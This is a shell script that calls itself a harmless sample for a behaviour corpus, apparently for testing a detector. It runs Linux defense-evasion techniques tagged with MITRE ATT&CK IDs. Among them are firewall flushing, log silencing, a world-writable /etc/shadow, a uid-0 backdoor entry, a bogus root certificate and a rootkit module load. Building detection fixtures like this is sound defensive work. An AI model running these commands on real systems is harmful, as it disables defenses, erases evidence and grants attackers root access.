#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): impair defenses (T1562.004, T1562.006), indicator
# removal (T1070.007, T1070.008, T1070.009), permission changes (T1222.002), hidden artifacts
# (T1564.002, .005, .006, .011, .013, .014), a root certificate (T1553.004) and a rootkit module
# (T1014). The firewall, service, attribute, VM and account tools are stubs; mounts, module loads
# and netlink calls are refused in the sandbox. Nothing is contacted.
echo "[corpus] evasion-impair starting"

# T1562.004 firewall flushed, opened, disabled
/usr/sbin/iptables -P INPUT ACCEPT 2>/dev/null
/usr/sbin/iptables -F 2>/dev/null
/usr/sbin/ip6tables -X 2>/dev/null
/usr/sbin/nft flush ruleset 2>/dev/null
/usr/sbin/ufw disable 2>/dev/null
/usr/sbin/iptables -I INPUT -p tcp --dport 4444 -j ACCEPT 2>/dev/null

# T1562.006 logging silenced: a discard rule, journald storage off, the loggers killed
printf '*.* stop\n' > /etc/rsyslog.d/00-drop.conf
/bin/sed -i 's/^#Storage=auto/Storage=none/' /etc/systemd/journald.conf
/bin/killall -9 rsyslogd systemd-journald 2>/dev/null
/usr/bin/systemctl stop rsyslog 2>/dev/null

# T1070.007 neighbour cache, connection tracking and route cache cleared
/bin/ip neigh flush all 2>/dev/null
/bin/arp -d 10.0.0.1 2>/dev/null
/usr/sbin/conntrack -F 2>/dev/null
/bin/ip route flush cache 2>/dev/null

# T1070.008 mail spools emptied and deleted
/bin/rm -f /var/mail/root
: > /var/spool/mail/app
/bin/truncate -s 0 /var/mail/ops

# T1070.009 planted persistence and the backdoor account removed
/bin/rm -f /etc/cron.d/sysupdate /etc/systemd/system/dbus-update.service /root/.ssh/authorized_keys
/bin/crontab -r 2>/dev/null
/usr/sbin/userdel -r svc-backup 2>/dev/null

# T1222.002 attributes, ACL, modes and owner of account files
/usr/bin/chattr -i /etc/passwd 2>/dev/null
/usr/bin/setfacl -m u:nobody:rw /etc/shadow 2>/dev/null
/bin/chmod 666 /etc/shadow
/bin/chown 65534 /etc/passwd

# T1564.002 hidden accounts: a system uid with a shell, a uid 0 alias
/usr/sbin/useradd -u 998 -s /bin/sh -M backup2 2>/dev/null
/bin/sh -c "echo 'sysd:x:0:0::/root:/bin/sh' >> /etc/passwd"

# T1564.005 hidden file system in a file
/bin/dd if=/dev/zero of=/tmp/.fs.img bs=1024 count=64 2>/dev/null
/bin/losetup -f /tmp/.fs.img 2>/dev/null
/bin/mkdir -p /tmp/.mnt
# (busybox mount keeps trying loop devices it may not create: cut short after a second)
/bin/timeout 1 /bin/mount -o loop /tmp/.fs.img /tmp/.mnt 2>/dev/null

# T1564.006 a virtual machine (stub)
/usr/bin/qemu-system-x86_64 -m 256 -nographic -hda /tmp/.vm.qcow2 2>/dev/null

# T1564.011 hangups ignored
/usr/bin/nohup /bin/true 2>/dev/null
/bin/sh -c "trap '' HUP; /bin/true"

# T1564.013 an empty directory bound over a process's /proc entry
/bin/mkdir -p /tmp/.empty
/bin/mount --bind /tmp/.empty /proc/1 2>/dev/null

# T1564.014 data kept in an extended attribute (stub)
/usr/bin/setfattr -n user.cfg -v 0sZWNobyBoaQ== /tmp/.fs.img 2>/dev/null

# T1553.004 a root certificate installed (not a real certificate) and the store rebuilt (stub)
printf -- '-----BEGIN CERTIFICATE-----\nMIIBcorpusonlynotarealcertificate\n-----END CERTIFICATE-----\n' > /usr/local/share/ca-certificates/corp-proxy.crt
/usr/sbin/update-ca-certificates 2>/dev/null

# T1014 a rootkit module from a hidden directory (refused)
/bin/insmod /tmp/.mnt/diamorphine.ko 2>/dev/null

echo "[corpus] evasion-impair done"
exit 0
